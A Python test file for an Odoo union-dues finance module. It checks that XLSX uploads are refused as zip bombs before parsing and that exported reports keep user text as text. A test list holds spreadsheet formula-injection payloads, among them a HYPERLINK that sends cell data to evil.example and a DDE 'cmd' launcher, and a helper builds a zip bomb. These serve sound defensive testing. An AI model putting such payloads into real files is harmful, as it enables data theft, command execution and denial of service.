"""Issue 13, points 4 and 9: an uploaded file is checked for its limits (zip bombs) before any
parser opens it, and every XLSX union_finance writes stores user text as text, never as a
live formula."""
import base64
import io
import zipfile
from datetime import date
from unittest.mock import patch

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import tagged

from .common import UnionFinanceCommon

EVIL = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)")


def zip_bomb_xlsx():
    """A small "XLSX" (a zip) whose one sheet unpacks to 5 MB of zeros: a ratio of about
    1,000 to 1, refused by the default limits (100 to 1) from the archive's directory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (5 * 1024 * 1024))
    return out.getvalue()


def xlsx(rows):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # what a bank's export holds: text, even "=..."
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@tagged("post_install", "-at_install")
class TestUploadLimits(UnionFinanceCommon):

    def test_zip_bomb_is_refused_before_parsing(self):
        bomb = base64.b64encode(zip_bomb_xlsx())
        self.assertLess(len(bomb), 100_000)
        checkoff = self.env["union.dues.checkoff.import"].with_user(self.user_accountant).create({
            "organization_id": self.unit_a.id, "file": bomb, "filename": "khau-tru.xlsx"})
        parser = "odoo.addons.union_finance.wizard.union_dues_checkoff_import.openpyxl.load_workbook"
        with patch(parser, side_effect=AssertionError("parsed")) as load, \
                self.assertRaises(UserError) as refused:
            checkoff.action_check()
        load.assert_not_called()
        self.assertIn("khau-tru.xlsx", str(refused.exception))
        self.assertEqual(checkoff.state, "upload", "nothing was recorded")
        # the bank statement import (issue 16) checks the upload before reading it too
        bank = self.env["account.statement.import"].with_user(self.user_accountant).create({
            "statement_file": bomb, "statement_filename": "sao-ke.xlsx"})
        parser = ("odoo.addons.union_finance.models.account_statement_import_sheet_parser"
                  ".openpyxl.load_workbook")
        with patch(parser, side_effect=AssertionError("parsed")) as load, \
                self.assertRaises(UserError) as refused:
            bank.import_file_button()
        load.assert_not_called()
        self.assertIn("sao-ke.xlsx", str(refused.exception))

    def test_a_file_within_the_limits_is_read(self):
        run = self._run(self.unit_a, date(2025, 7, 1))
        line = run.line_ids.filtered(lambda rec: rec.member_id == self.member_a1)
        wizard = self.env["union.dues.checkoff.import"].with_user(self.user_accountant).create({
            "organization_id": self.unit_a.id, "filename": "khau-tru.xlsx",
            "file": base64.b64encode(xlsx([["Mã", "CCCD", "Họ tên", "Số tiền"],
                                           [self.member_a1.member_code, "", "Lan", line.amount]]))})
        wizard.action_check()
        self.assertEqual(wizard.state, "checked")
        self.assertEqual(wizard.line_ids.status, "matched")


@tagged("post_install", "-at_install")
class TestXlsxUserTextIsText(UnionFinanceCommon):

    def _cells(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                if isinstance(cell.value, str)]

    def _assert_text(self, content, needles):
        cells = self._cells(content)
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"],
                         "no formula in the file")
        for needle in needles:
            found = [cell for cell in cells if needle in cell.value]
            self.assertTrue(found, f"{needle!r} is in the file")
            self.assertTrue(all(cell.data_type == "s" for cell in found))

    def test_finance_books_store_descriptions_as_text(self):
        Payment = self.env["union.dues.payment"].with_user(self.user_accountant)
        for text in EVIL:
            Payment.create({"kind": "cash", "organization_id": self.unit_a.id,
                            "member_id": self.member_a1.id, "amount": 1_000, "date": date(2025, 8, 1),
                            "description": text}).action_post()
        wizard = self.env["union.finance.xlsx.report"].with_user(self.user_accountant).create({
            "report_type": "cash_book", "organization_id": self.unit_a.id, "year": 2025})
        content, _name = wizard._build_xlsx()
        self._assert_text(content, EVIL)

    def test_arrears_and_collection_store_names_as_text(self):
        self.member_a1.name = EVIL[0]
        self.member_a2.name = EVIL[3]
        self.unit_a.name = EVIL[1]
        self._run(self.unit_a, date(2025, 7, 1))
        for report_type in ("arrears", "dues_collection"):
            wizard = self.env["union.finance.xlsx.report"].with_user(self.user_accountant).create({
                "report_type": report_type, "organization_id": self.upper.id, "year": 2025})
            content, _name = wizard._build_xlsx()
            self._assert_text(content, [EVIL[1]] if report_type == "dues_collection" else
                              [EVIL[0], EVIL[1], EVIL[3]])

    def test_error_file_of_an_import_stores_messages_as_text(self):
        content = xlsx([["Mã", "CCCD", "Họ tên", "Số tiền"], [EVIL[0], EVIL[1], EVIL[3], EVIL[2]]])
        wizard = self.env["union.dues.checkoff.import"].with_user(self.user_accountant).create({
            "organization_id": self.unit_a.id, "file": base64.b64encode(content),
            "filename": "khau-tru.xlsx"})
        wizard.action_check()
        self.assertEqual(wizard.state, "error")
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.error_file)))
        sheet = book.worksheets[0]
        message = sheet.cell(row=2, column=5)
        self.assertTrue(message.value)
        self.assertEqual(message.data_type, "s")
        self.assertFalse([cell.coordinate for row in sheet.iter_rows() for cell in row
                          if cell.data_type == "f"], "no formula in the file")
        self.assertTrue(wizard.error_filename.endswith("_errors.xlsx"))
